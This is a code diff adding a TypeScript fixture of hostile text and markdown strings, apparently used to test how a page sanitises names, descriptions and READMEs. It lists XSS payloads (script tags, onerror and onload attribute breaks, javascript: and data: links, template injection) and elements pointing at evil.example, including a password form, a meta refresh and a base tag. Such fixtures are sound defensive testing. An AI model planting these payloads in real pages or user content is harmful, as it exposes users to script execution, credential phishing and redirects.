@@ -1,0 +1,42 @@
+/** Attacks on a page through text, each a known way in; used as names, descriptions and READMEs. */
+export const HOSTILE_TEXT: Readonly<Record<string, string>> = {
+  script: `<script>alert(1)</script>`,
+  "attribute break": `"><img src=x onerror=alert(1)>`,
+  "single quote break": `'onmouseover='alert(1)`,
+  "closing elements": `</title></style></textarea></code></main><svg onload=alert(1)>`,
+  "svg animation": `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
+  "html comment": `<!--><img src=x onerror=alert(1)>-->`,
+  "template text": "${alert(1)}{{constructor.constructor('alert(1)')()}}",
+  "encoded script": `&lt;script&gt;alert(1)&lt;/script&gt;`,
+  "null and control": `<scr\u0000ipt>alert(1)</scr\u0000ipt>\u202e`,
+};
+
+/** Attacks through markdown. */
+export const HOSTILE_MARKDOWN: Readonly<Record<string, string>> = {
+  ...HOSTILE_TEXT,
+  "javascript link": `[a](javascript:alert(1))`,
+  "entity-coded javascript link": `[a](&#106;avascript:alert(1))`,
+  "tab in scheme": `[a](java\tscript:alert(1))`,
+  "javascript autolink": `<javascript:alert(1)>`,
+  "vbscript link": `[a](vbscript:msgbox)`,
+  "data link": `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  "file link": `[a](file:///etc/passwd)`,
+  "protocol-relative link": `[a](//evil.example/)`,
+  "backslash link": `[a](/\\evil.example)`,
+  "reference link": `[a]\n\n[a]: javascript:alert(1)`,
+  "javascript image": `![a](javascript:alert(1))`,
+  "svg data image": `![a](data:image/svg+xml;base64,PHN2Zy8+)`,
+  "image alt break": `![" onerror="alert(1)](https://example.org/a.png)`,
+  "image title break": `![a](https://example.org/a.png '" onload="alert(1)')`,
+  "link title break": `[a](https://example.org '" onclick="alert(1)')`,
+  "fence info break": '```"><script>alert(1)</script>\ncode\n```',
+  "script in fence": "```html\n</code></pre><script>alert(1)</script>\n```",
+  "script in heading": `# <script>alert(1)</script>`,
+  "table cell": `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
+  "inline html block": `<div style="position:fixed;inset:0">\n\nhi\n\n</div>`,
+  iframe: `<iframe src="https://evil.example"></iframe>`,
+  form: `<form action="https://evil.example"><input name=password></form>`,
+  "meta refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  "base element": `<base href="https://evil.example/">`,
+  "style element": `<style>*{display:none}</style>`,
+};
